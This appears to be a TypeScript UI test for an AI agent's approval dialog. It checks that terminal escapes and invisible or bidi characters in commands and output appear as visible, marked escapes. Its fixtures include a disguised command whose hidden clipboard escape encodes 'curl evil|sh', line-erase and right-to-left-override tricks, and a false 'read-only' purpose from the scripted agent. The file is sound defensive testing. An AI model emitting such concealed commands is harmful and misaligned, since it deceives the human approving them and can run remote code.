import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { escapeControls } from '../../src/shared/text/escape-controls';
import { launchBrowser, type Browser } from '../helpers/browser';
import { startBuiltServer, type RunningServer } from '../helpers/built-server';
import { startLlmServer, type LlmServer } from '../fixtures/llm-server/index';

/**
 * The browser UI shows text a model or a host wrote with its control, invisible and bidi
 * characters as visible, marked escapes: React escapes HTML, not these. A right-to-left
 * override makes `#<RLO> gnp.olleh` read as a harmless comment; a zero-width character or
 * a carriage return hides what runs. The approval dialog shows the exact command with its
 * escapes and labels the purpose as the agent's unverified words.
 */
const TIMEOUT_MS = 20_000;
const ARMING_WAIT_MS = 600;

/** What a page (or a terminal) acts on or hides instead of showing. \n and \t are layout. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;

const HOSTILE_COMMAND = 'touch /tmp/fm-ui-hostile\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[1A\x1b[2K\rls -l /tmp \x9b2J #\u202e gnp.olleh\u200b';
const HOSTILE_PURPOSE = 'list the temp dir\r\x1b[2KRoutine, read-only check \u202eytefas';
/** A read-only command whose output carries OSC 52, an erase, a CR, an 8-bit CSI and an RLO. */
const BANNER_COMMAND = "printf 'banner\\033]52;c;aGk=\\007\\033[2K\\r\\302\\233\\342\\200\\256done\\n'";

let llm: LlmServer;
let server: RunningServer;
let browser: Browser;
let page: Page;

beforeAll(async () => {
  llm = await startLlmServer({
    scenario: [
      { match: { toolResult: 'run_command', toolResultContains: 'banner' }, respond: { text: 'The host printed: {{toolResult:run_command}}' } },
      { match: { toolResult: 'run_command' }, respond: { text: 'Queued: {{toolResult:run_command|firstLine|maxChars=200}}' } },
      { match: { lastUser: 'clean up the temp dir', hasToolResult: false }, respond: { tool_calls: [{ name: 'run_command', arguments: { command: HOSTILE_COMMAND, purpose: HOSTILE_PURPOSE } }] } },
      { match: { lastUser: 'create the banner', hasToolResult: false }, respond: { tool_calls: [{ name: 'run_command', arguments: { command: BANNER_COMMAND, purpose: 'create the banner' } }] } },
    ],
  });
  server = await startBuiltServer({ env: { OPENAI_BASE_URL: llm.baseURL, FLEETMIND_MODEL: 'gpt-4o-mini', OPENAI_API_KEY: '' } });
  browser = await launchBrowser();
  page = browser.page;
  await page.goto(server.uiUrl);
  await page.getByRole('navigation', { name: 'Conversations' }).waitFor();
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await server?.stop();
  await llm?.stop();
});

async function send(text: string): Promise<void> {
  const composer = page.getByLabel('Message', { exact: true });
  await composer.fill(text);
  await composer.press('Enter');
}

describe('hostile text in the browser UI (scripted model)', () => {
  it('the approval dialog shows the exact command with visible escapes and labels the purpose as the agent’s words', async () => {
    await send('please clean up the temp dir');
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('heading', { name: 'Approval required' }).waitFor({ timeout: TIMEOUT_MS });

    const command = dialog.locator('.approval-dialog-command code');
    expect(await command.textContent()).toBe(escapeControls(HOSTILE_COMMAND));
    expect(await command.textContent()).toContain('touch /tmp/fm-ui-hostile\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[1A\\x1b[2K\\rls -l /tmp \\x9b2J #\\u202e gnp.olleh\\u200b');
    // Each escape is marked and names the character it stands for.
    const marks = command.locator('.control-char');
    expect(await marks.count()).toBe(8);
    expect(await marks.first().textContent()).toBe('\\x1b');
    expect(await marks.first().getAttribute('title')).toMatch(/U\+001B ESC/);
    expect(await command.locator('.control-char[data-code-point="202e"]').getAttribute('title')).toMatch(/right-to-left override/);
    expect(await dialog.locator('.approval-hidden-characters').textContent()).toMatch(/contains control or invisible characters/);

    // The purpose: labelled as the agent's claim, escaped as well.
    expect(await dialog.locator('dt', { hasText: 'Purpose' }).textContent()).toBe('Purpose (the agent’s words, not verified)');
    expect(await dialog.locator('.approval-purpose').textContent()).toBe(`“${escapeControls(HOSTILE_PURPOSE)}”`);
    // Reasons quote the command: escaped too. Nothing in the dialog is raw.
    expect(await dialog.locator('.approval-dialog-reasons').textContent()).toMatch(/invisible or control character/);
    expect(await dialog.textContent()).not.toMatch(RAW_CONTROL);
    await browser.screenshot('approval-hostile-command.png');

    // The request recorded in the conversation behind the dialog: escaped.
    const notice = page.locator('.approval[data-approval-state="pending"]');
    await notice.waitFor();
    expect(await notice.locator('.approval-command').textContent()).toBe(escapeControls(HOSTILE_COMMAND));

    await page.waitForTimeout(ARMING_WAIT_MS);
    await page.keyboard.press('d');
    await dialog.getByLabel(/Reason for denying/).waitFor();
    await page.keyboard.type('hidden characters');
    await page.keyboard.press('Enter');
    const outcome = dialog.locator('[data-outcome="denied"]');
    await outcome.waitFor({ timeout: TIMEOUT_MS });
    expect(await outcome.locator('.approval-subtitle code').textContent()).toBe(escapeControls(HOSTILE_COMMAND));
    expect(await outcome.textContent()).not.toMatch(RAW_CONTROL);
    await dialog.waitFor({ state: 'detached', timeout: TIMEOUT_MS });

    // The held tool call's arguments, expanded: no raw character either.
    const card = page.locator('[data-tool="run_command"]').first();
    await card.locator('.tool-head').click();
    expect(await card.locator('.tool-args pre').textContent()).not.toMatch(RAW_CONTROL);
    expect(await card.locator('.tool-args pre').textContent()).toContain('\\u202e');
  });

  it('host output quoted in the chat shows OSC 52, erase, CR, C1 and bidi characters as marked escapes', async () => {
    await page.getByRole('button', { name: 'New conversation' }).click();
    await send('please create the banner');
    const reply = page.locator('article[data-role="assistant"][data-status="complete"] pre.reply');
    await reply.waitFor({ timeout: TIMEOUT_MS });
    const text = (await reply.textContent()) ?? '';
    expect(text).toContain('The host printed:');
    expect(text).toContain('banner\\x1b]52;c;aGk=\\x07\\x1b[2K\\r\\x9b\\u202edone');
    expect(text).not.toMatch(RAW_CONTROL);
    expect(await reply.locator('.control-char').count()).toBeGreaterThanOrEqual(6);
    expect(await page.locator('main').textContent()).not.toMatch(RAW_CONTROL);
    await browser.screenshot('chat-hostile-output.png');
    expect(browser.consoleErrors).toEqual([]);
  });
});
